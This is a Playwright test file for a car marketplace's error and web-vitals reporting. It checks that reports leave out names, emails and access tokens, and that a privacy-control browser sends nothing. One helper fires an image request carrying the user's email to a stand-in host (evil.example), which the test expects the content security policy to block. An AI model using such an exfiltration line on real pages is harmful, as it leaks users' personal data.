import type { Page } from '@playwright/test';
import * as v from 'valibot';
import { addressOf } from '@sandbox/run/ports';
import { siteReports } from '@/shared/reporting/siteReport';
import { reportingFolder } from '@tests/run/browserSite';
import { keptToken } from '@tests/support/keptToken';
import { mapsFolderOf } from '@tools/sourceMapsPlugin';
import { readStack } from '@tools/stack/readStack';
import { serveSite } from './support/deployedSite';
import { signIn } from './support/journey';
import { aCar, aPerson, type Person } from './support/people';
import { receiveReports } from './support/reportReceiver';
import { expect, test as base } from './support/test';

interface Fixtures {
  site: Awaited<ReturnType<typeof serveSite>>;
  receiver: Awaited<ReturnType<typeof receiveReports>>;
}

const test = base.extend<Fixtures>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads what a fixture needs from this pattern
  site: async ({}, use) => {
    const site = await serveSite(reportingFolder);
    await use(site);
    site.stop();
  },
  // oxlint-disable-next-line no-empty-pattern -- the same
  receiver: async ({}, use) => {
    const receiver = await receiveReports();
    await use(receiver);
    await receiver.stop();
  },
});

/** Errors that quote the person: as the page starts, and from then on whenever its code looks for a link or opens a dialog. */
async function breakPage(page: Page, { name, email }: Person) {
  await page.addInitScript((said) => {
    document.addEventListener('DOMContentLoaded', () => {
      throw new RangeError(`Failed to load ${said} from ${window.location.href}`);
    });
    const fail = () => {
      throw new TypeError(`${said} is not a function ${localStorage.getItem('access_token') ?? ''}`);
    };
    window.addEventListener('pagebroken', () => {
      const original = Object.getOwnPropertyDescriptor(Element.prototype, 'closest') ?? {};
      const failOnce = () => {
        Object.defineProperty(Element.prototype, 'closest', original);
        return fail();
      };
      Object.assign(Element.prototype, { closest: failOnce });
      Object.assign(HTMLDialogElement.prototype, { showModal: fail });
    });
  }, `${name} <${email}>`);
}

async function breakCar(page: Page, id: string, body: string) {
  const headers = { 'access-control-allow-origin': '*' };
  await page.route(`${addressOf('market')}/cars/${id}`, (route) => route.fulfill({ status: 503, body, headers }));
}

/** A car's page at an address that quotes the person, once its reporting code has come. */
async function openCar(page: Page, origin: string, car: string, { name, email }: Person) {
  const code = page.waitForResponse(/\/assets\/startReporting-/);
  await page.goto(`${origin}/carsCategories/carDetails/${car}?from=${email}#${name}`);
  await (await code).finished();
}

/** Everything that is reported, with the person in it wherever a page can have them. */
async function goWrong(page: Page, { email }: Person) {
  await page.evaluate((said) => void (new Image().src = `https://evil.example/?email=${said}`), email);
  await page.evaluate((said) => void Promise.reject(new Error(`Unexpected token ${said}`)), email);
  await page.evaluate(() => window.dispatchEvent(new Event('pagebroken')));
  await page.getByRole('link', { name: 'Blog' }).first().hover();
  const wishlist = page.getByRole('banner').getByRole('button', { name: /wishlist/i });
  await wishlist.click();
  await expect(wishlist, 'the controls are gone with the modal that cannot be opened').toBeHidden();
}

const vital = (page: string, name: string): unknown => expect.objectContaining({ type: 'vital', page, name });

const pageOfCar = '/carsCategories/carDetails/:id';

test('What goes wrong is received without anything personal, and the stack of an error leads to its source', async ({
  page,
  problems,
  site,
  receiver,
}) => {
  const sent = () => receiver.received.flatMap(({ body }) => v.parse(siteReports, JSON.parse(body)).reports);
  const buyer = await aPerson('buyer', 'Philippa Featherstone');
  const car = await aCar(await aPerson('seller'));
  await signIn(page, buyer, site.origin);
  const token = (await page.evaluate(keptToken)) ?? 'no token';
  // The layout shift of the login page is reported when it is left, if its reporting code has come.
  await expect.poll(sent).toContainEqual(vital('/login', 'FCP'));
  await breakPage(page, buyer);
  await breakCar(page, car, JSON.stringify(buyer));

  await openCar(page, site.origin, car, buyer);
  await goWrong(page, buyer);
  await page.goto('about:blank');

  const error = { type: 'error', page: pageOfCar };
  for (const expected of [
    { ...error, name: 'RangeError', message: 'failed to load … from …', stack: [] },
    { ...error, name: 'Error', message: 'unexpected token …', stack: [] },
    { type: 'call', page: pageOfCar, call: 'GET /cars/:id', kind: 'status', status: 503 },
    { type: 'policy', page: pageOfCar, directive: 'img-src', blocked: 'another site' },
    vital(pageOfCar, 'TTFB'),
    // Measured until the page was left.
    vital('/login', 'CLS'),
  ])
    await expect.poll(sent).toContainEqual(expected);

  expect(
    sent().filter((report) => report.type === 'call' && report.kind === 'no-response'),
    'calls of pages that were left',
  ).toEqual([]);

  const stacks = sent().flatMap((report) => (report.type === 'error' && report.name === 'TypeError' ? [report] : []));
  const sources = readStack(JSON.stringify(stacks), mapsFolderOf(reportingFolder));
  expect(sources.unknown).toEqual([]);
  expect(sources.text, 'an event handler').toMatch(/"src\/app\/prefetchOnHover\.ts:\d+:\d+/);
  expect(sources.text, 'a component below an error boundary').toMatch(
    /"src\/shared\/ui\/dialog\/openDialog\.ts:\d+:\d+/,
  );

  const everything = JSON.stringify(receiver.received);
  for (const secret of [token, buyer.email, 'people.test', 'person-', 'Philippa', 'Featherstone', car, 'evil'])
    expect(everything).not.toContain(secret);
  for (const { address, headers } of receiver.received) {
    expect(address).toBe('POST /site');
    expect(headers).toMatchObject({ referer: `${site.origin}/`, origin: site.origin });
    expect(Object.keys(headers)).not.toEqual(expect.arrayContaining(['authorization']));
    expect(Object.keys(headers)).not.toEqual(expect.arrayContaining(['cookie']));
  }
  problems.expect(/^uncaught: |^policy: img-src |^console: /);
});

test('Nothing is received from a browser that asks not to track its user', async ({
  page,
  problems,
  site,
  receiver,
}) => {
  await page.addInitScript(() => void Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
  const buyer = await aPerson('buyer', 'Philippa Featherstone');
  const car = await aCar(await aPerson('seller'));
  await signIn(page, buyer, site.origin);
  await breakPage(page, buyer);
  await breakCar(page, car, '');

  await openCar(page, site.origin, car, buyer);
  await goWrong(page, buyer);
  await page.goto('about:blank');
  // Another request to the receiver, sent after those of the page would have been.
  await page.request.post(`${addressOf('reports')}/last`);

  expect(receiver.received.map(({ address }) => address)).toEqual(['POST /last']);
  problems.expect(/^uncaught: |^policy: img-src |^console: /);
});
